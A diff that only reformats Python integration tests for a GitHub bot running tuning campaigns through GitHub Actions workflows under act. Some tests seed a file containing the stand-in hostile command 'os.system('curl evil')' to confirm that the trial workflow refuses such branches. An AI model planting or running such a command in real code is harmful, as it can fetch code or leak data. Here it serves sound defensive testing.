@@ -113,7 +113,10 @@ def recipe_commits(fake: FakeGitHub, pull: Any) -> list[tuple[int, int]]:
         sha = fake.commits[sha].parents[0]
     changes = []
     for commit in reversed(chain):
-        old, new = fake.commits[fake.commits[commit].parents[0]].tree.get(SIM_RECIPE), fake.commits[commit].tree.get(SIM_RECIPE)
+        old, new = (
+            fake.commits[fake.commits[commit].parents[0]].tree.get(SIM_RECIPE),
+            fake.commits[commit].tree.get(SIM_RECIPE),
+        )
         if old != new:
             patch = list(difflib.unified_diff((old or "").splitlines(), (new or "").splitlines(), lineterm="", n=0))[2:]
             changes.append((sum(x.startswith("+") for x in patch), sum(x.startswith("-") for x in patch)))
@@ -130,28 +133,57 @@ def pull_files(fake: FakeGitHub, pull: Any) -> list[tuple[str, int, int, str]]:
     files = []
     for path in sorted(set(old) | set(new)):
         if old.get(path) != new.get(path):
-            patch = list(difflib.unified_diff((old.get(path) or "").splitlines(), (new.get(path) or "").splitlines(),
-                                              lineterm="", n=0))[2:]
-            files.append((path, sum(x.startswith("+") for x in patch), sum(x.startswith("-") for x in patch),
-                          _norm("\n".join(patch), fake)))
+            patch = list(
+                difflib.unified_diff(
+                    (old.get(path) or "").splitlines(), (new.get(path) or "").splitlines(), lineterm="", n=0
+                )
+            )[2:]
+            files.append(
+                (
+                    path,
+                    sum(x.startswith("+") for x in patch),
+                    sum(x.startswith("-") for x in patch),
+                    _norm("\n".join(patch), fake),
+                )
+            )
     return files
 
 
 def left_on_github(fake: FakeGitHub, issue: int) -> dict[str, Any]:
     from bot.forge.github import GATE_CONTEXT
 
-    pulls = [{"number": p.number, "title": p.title, "body": _norm(p.body, fake), "state": p.state, "merged": p.merged_at is not None,
-              "branch": p.head_ref, "labels": sorted(fake.issues[p.number].labels),
-              "files": pull_files(fake, p)}
-             for p in sorted(fake.pulls.values(), key=lambda p: p.number)]
+    pulls = [
+        {
+            "number": p.number,
+            "title": p.title,
+            "body": _norm(p.body, fake),
+            "state": p.state,
+            "merged": p.merged_at is not None,
+            "branch": p.head_ref,
+            "labels": sorted(fake.issues[p.number].labels),
+            "files": pull_files(fake, p),
+        }
+        for p in sorted(fake.pulls.values(), key=lambda p: p.number)
+    ]
     comments = [(c.issue, c.user, _norm(c.body, fake)) for c in sorted(fake.comments.values(), key=lambda c: c.id)]
     # a status's commit, by its message (its sha differs between the two repositories)
-    statuses = [(_norm(fake.commits[s.sha].message, fake), s.context, s.state, _norm(s.description, fake)) for s in fake.statuses]
-    dispatches = [(d["workflow"], {k: (_norm(v, fake) if k == "sha" else v) for k, v in d["inputs"].items()})
-                  for d in fake.dispatches]
-    return {"pulls": pulls, "comments": comments, "gate_statuses": [s for s in statuses if s[1] == GATE_CONTEXT],
-            "statuses": statuses, "dispatches": dispatches, "issue_labels": sorted(fake.issues[issue].labels),
-            "main_recipe": fake.file(SIM_RECIPE)}
+    statuses = [
+        (_norm(fake.commits[s.sha].message, fake), s.context, s.state, _norm(s.description, fake))
+        for s in fake.statuses
+    ]
+    dispatches = [
+        (d["workflow"], {k: (_norm(v, fake) if k == "sha" else v) for k, v in d["inputs"].items()})
+        for d in fake.dispatches
+    ]
+    return {
+        "pulls": pulls,
+        "comments": comments,
+        "gate_statuses": [s for s in statuses if s[1] == GATE_CONTEXT],
+        "statuses": statuses,
+        "dispatches": dispatches,
+        "issue_labels": sorted(fake.issues[issue].labels),
+        "main_recipe": fake.file(SIM_RECIPE),
+    }
 
 
 def campaign_state(fake: FakeGitHub, issue: int) -> Any:
@@ -162,8 +194,14 @@ def campaign_state(fake: FakeGitHub, issue: int) -> Any:
 
     fake.start()  # the in-process client, for reading the state comment
     try:
-        forge = GitHubForge(fake.full_name, TOKEN, seconds_between_requests=None, seconds_between_writes=None, retry=None,
-                            bot_login=fake.actor)
+        forge = GitHubForge(
+            fake.full_name,
+            TOKEN,
+            seconds_between_requests=None,
+            seconds_between_writes=None,
+            retry=None,
+            bot_login=fake.actor,
+        )
         stored = load_state(forge, issue)
     finally:
         fake.stop()
@@ -172,10 +210,27 @@ def campaign_state(fake: FakeGitHub, issue: int) -> Any:
 
 
 def trace(state: Any) -> dict[str, Any]:
-    steps = [(s.change.lever, s.change.before, s.change.after, [(r.kind, r.outcome) for r in s.runs], s.kept,
-              None if s.gain is None else round(s.gain, 9), s.close_reason) for s in state.steps]
-    return {"steps": steps, "phase": state.phase, "finish_reason": state.finish_reason, "spent": round(state.spent, 6),
-            "budget": state.budget, "baseline": [r.tps for r in state.baseline], "levers": dict(state.incumbent_levers)}
+    steps = [
+        (
+            s.change.lever,
+            s.change.before,
+            s.change.after,
+            [(r.kind, r.outcome) for r in s.runs],
+            s.kept,
+            None if s.gain is None else round(s.gain, 9),
+            s.close_reason,
+        )
+        for s in state.steps
+    ]
+    return {
+        "steps": steps,
+        "phase": state.phase,
+        "finish_reason": state.finish_reason,
+        "spent": round(state.spent, 6),
+        "budget": state.budget,
+        "baseline": [r.tps for r in state.baseline],
+        "levers": dict(state.incumbent_levers),
+    }
 
 
 def in_process(contract: Contract, tmp_path: Path, budget: float) -> tuple[FakeGitHub, int]:
@@ -240,10 +295,16 @@ def assert_the_run_job_read_nothing_of_the_runners_home(repo: ActRepo) -> None:
 
 def assert_only_records_were_uploaded(repo: ActRepo) -> None:
     """trial.yml's artifact holds the records the report job reads, in its layout, and nothing else of run/."""
-    uploaded = sorted(str(p.relative_to(d)) for d in (repo.state / "artifacts").glob("*/trial-record") for p in d.rglob("*")
-                      if p.is_file())
+    uploaded = sorted(
+        str(p.relative_to(d))
+        for d in (repo.state / "artifacts").glob("*/trial-record")
+        for p in d.rglob("*")
+        if p.is_file()
+    )
     assert uploaded and "record.json" in uploaded, uploaded
-    allowed = re.compile(r"^(record\.json|(incumbent|candidate)/record\.json|calibrated\.json|calibration/[^/]+\.json)$")
+    allowed = re.compile(
+        r"^(record\.json|(incumbent|candidate)/record\.json|calibrated\.json|calibration/[^/]+\.json)$"
+    )
     assert all(allowed.match(name) for name in uploaded), uploaded
 
 
@@ -252,7 +313,9 @@ def first_difference(got: Any, want: Any) -> str:
     return "\n".join(list(difflib.unified_diff(b, a, "in-process", "act", lineterm="", n=1))[:40])
 
 
-def compare_with_in_process(contract: Contract, tmp_path: Path, repo: ActRepo, campaign: ActCampaign, budget: float) -> None:
+def compare_with_in_process(
+    contract: Contract, tmp_path: Path, repo: ActRepo, campaign: ActCampaign, budget: float
+) -> None:
     ref, ref_issue = in_process(contract, tmp_path, budget)
     assert campaign.issue == ref_issue
     got, want = left_on_github(repo.fake, campaign.issue), left_on_github(ref, ref_issue)
@@ -265,11 +328,14 @@ def compare_with_in_process(contract: Contract, tmp_path: Path, repo: ActRepo, c
 
 
 def test_a_two_step_campaign_through_the_real_workflows_leaves_what_the_in_process_one_does(
-        contract: Contract, act_repo: ActRepo, tmp_path: Path) -> None:
+    contract: Contract, act_repo: ActRepo, tmp_path: Path
+) -> None:
     campaign, wall = drive_through_act(act_repo, TWO_STEP_BUDGET)
     runs = act_repo.runs
-    print(f"\nact: {len(runs)} runs ({sum(r.workflow == 'trial.yml' for r in runs)} of trial.yml) in {wall:.1f}s: "
-          + ", ".join(f"{r.workflow}#{r.run_id} {r.wall_s:.1f}s" for r in runs))
+    print(
+        f"\nact: {len(runs)} runs ({sum(r.workflow == 'trial.yml' for r in runs)} of trial.yml) in {wall:.1f}s: "
+        + ", ".join(f"{r.workflow}#{r.run_id} {r.wall_s:.1f}s" for r in runs)
+    )
     state = campaign_state(act_repo.fake, campaign.issue)
     assert state.phase == "finished" and len(state.steps) == 2, trace(state)
     assert [s.kept for s in state.steps] == [False, True], trace(state)
@@ -295,7 +361,8 @@ def test_a_two_step_campaign_through_the_real_workflows_leaves_what_the_in_proce
 
 @pytest.mark.slow
 def test_a_long_campaign_topped_up_by_comments_through_the_real_workflows_leaves_what_the_in_process_one_does(
-        contract: Contract, act_repo: ActRepo, tmp_path: Path) -> None:
+    contract: Contract, act_repo: ActRepo, tmp_path: Path
+) -> None:
     campaign, wall = drive_through_act(act_repo, LONG_BUDGET)
     print(f"\nact: {len(act_repo.runs)} runs in {wall:.1f}s")
     assert campaign_state(act_repo.fake, campaign.issue).phase == "finished"
@@ -348,7 +415,12 @@ def test_a_redelivered_stop_comment_acts_once(act_repo: ActRepo) -> None:
     after_stop = (len(fake.comments), len(fake.dispatches), dict(fake.refs), [c.body for c in fake.comments.values()])
     again = act_repo.run("campaign.yml", "issue_comment", campaign.comment_payload(stop_id))  # GitHub re-delivers
     assert again.returncode == 0, again.tail()
-    assert (len(fake.comments), len(fake.dispatches), dict(fake.refs), [c.body for c in fake.comments.values()]) == after_stop
+    assert (
+        len(fake.comments),
+        len(fake.dispatches),
+        dict(fake.refs),
+        [c.body for c in fake.comments.values()],
+    ) == after_stop
     assert trace(campaign_state(fake, campaign.issue)) == trace(state)
 
 
@@ -384,10 +456,21 @@ def test_check_refuses_a_fork_pr_and_a_step_branch_with_extra_files(act_repo: Ac
         why = "is not from an attune/ branch"
     else:
         fake.create_branch(branch)
-        sha = fake.seed({SIM_RECIPE: edited, "bot/cli/__init__.py": "import os; os.system('curl evil')\n"}, "step", branch=branch)
+        sha = fake.seed(
+            {SIM_RECIPE: edited, "bot/cli/__init__.py": "import os; os.system('curl evil')\n"}, "step", branch=branch
+        )
         number, why = fake.add_pull(branch, user=fake.actor), "changes files outside"
-    inputs = {"campaign": "llama3.1-405b-h200x128-i9", "issue": "9", "pr": str(number), "sha": sha,
-              "runner_labels": '["gpu"]', "kind": "trial", "attempt": "1", "recipe": SIM_RECIPE, "limits": "{}"}
+    inputs = {
+        "campaign": "llama3.1-405b-h200x128-i9",
+        "issue": "9",
+        "pr": str(number),
+        "sha": sha,
+        "runner_labels": '["gpu"]',
+        "kind": "trial",
+        "attempt": "1",
+        "recipe": SIM_RECIPE,
+        "limits": "{}",
+    }
     before = (len(fake.comments), list(fake.statuses), dict(fake.refs))
     run = act_repo.run("trial.yml", "workflow_dispatch", {"ref": "refs/heads/main"}, inputs=inputs)
     assert run.returncode == 0 and why in run.log, run.tail()
@@ -397,10 +480,14 @@ def test_check_refuses_a_fork_pr_and_a_step_branch_with_extra_files(act_repo: Ac
     assert (len(fake.comments), list(fake.statuses), dict(fake.refs)) == before
     assert not (act_repo.state / "artifacts").exists()
     # job timings, as GitHub's list-jobs serves them (over HTTP, validated against the description)
-    with urllib.request.urlopen(f"{act_repo.server.url}/repos/{fake.full_name}/actions/runs/{run.run_id}/jobs") as answer:
+    with urllib.request.urlopen(
+        f"{act_repo.server.url}/repos/{fake.full_name}/actions/runs/{run.run_id}/jobs"
+    ) as answer:
         listed = json.loads(answer.read())
     assert [(j["name"], j["status"], j["conclusion"]) for j in listed["jobs"]] == [
-        ("check the step is a bot branch of this repository", "completed", "success"), (REPORT, "completed", "success")]
+        ("check the step is a bot branch of this repository", "completed", "success"),
+        (REPORT, "completed", "success"),
+    ]
     assert listed["jobs"][0]["started_at"] <= listed["jobs"][0]["completed_at"]
 
 
@@ -410,12 +497,18 @@ def test_a_trial_check_refused_closes_its_step_with_the_reason_through_the_real_
     run with check's reason and goes on, instead of waiting forever."""
     fake = act_repo.fake
     campaign = started_campaign(act_repo, budget=370.0)
-    while not any(d["inputs"]["kind"] == "trial" for d in campaign.trial_dispatches()[campaign.answered:]):
+    while not any(d["inputs"]["kind"] == "trial" for d in campaign.trial_dispatches()[campaign.answered :]):
         run = campaign.next_trial()  # the baseline runs (the simulated recipe is calibrated by the bot)
         assert run.jobs.get(REPORT) == "success", run.tail()
-    trial = next(d["inputs"] for d in campaign.trial_dispatches()[campaign.answered:] if d["inputs"]["kind"] == "trial")
+    trial = next(
+        d["inputs"] for d in campaign.trial_dispatches()[campaign.answered :] if d["inputs"]["kind"] == "trial"
+    )
     pr = int(trial["pr"])
-    fake.seed({"bot/cli/__init__.py": "import os; os.system('curl evil')\n"}, "a person's push", branch=fake.pulls[pr].head_ref)
+    fake.seed(
+        {"bot/cli/__init__.py": "import os; os.system('curl evil')\n"},
+        "a person's push",
+        branch=fake.pulls[pr].head_ref,
+    )
 
     run = campaign.next_trial()
 
@@ -424,9 +517,13 @@ def test_a_trial_check_refused_closes_its_step_with_the_reason_through_the_real_
     assert not (act_repo.state / "artifacts" / str(run.run_id)).exists()  # the runner ran nothing
     state = campaign_state(fake, campaign.issue)
     step = state.steps[0]
-    assert step.runs[0].outcome == "crash" and step.runs[0].reason.startswith(f"check refused the run: PR #{pr} head is")
+    assert step.runs[0].outcome == "crash" and step.runs[0].reason.startswith(
+        f"check refused the run: PR #{pr} head is"
+    )
     assert fake.pulls[pr].state == "closed" and fake.pulls[pr].merged_at is None
-    assert any("check refused the run" in c.body for c in fake.comments.values() if c.issue == pr and c.user == fake.actor)
+    assert any(
+        "check refused the run" in c.body for c in fake.comments.values() if c.issue == pr and c.user == fake.actor
+    )
     assert len(campaign.trial_dispatches()) > campaign.answered or state.phase == "finished", trace(state)
 
 
@@ -443,7 +540,15 @@ def test_every_action_the_workflows_use_has_a_valid_local_stand_in() -> None:
     tool = Path(sys.executable).parent / "check-jsonschema"
     if not tool.is_file():
         pytest.skip("check-jsonschema is not installed (the test extra)")
-    out = subprocess.run([str(tool), "--builtin-schema", "github-actions",
-                          *(str(Path(d) / "action.yml") for d in sorted(set(stand_ins.values())))],
-                         capture_output=True, text=True, timeout=120)
+    out = subprocess.run(
+        [
+            str(tool),
+            "--builtin-schema",
+            "github-actions",
+            *(str(Path(d) / "action.yml") for d in sorted(set(stand_ins.values()))),
+        ],
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
     assert out.returncode == 0, out.stdout + out.stderr
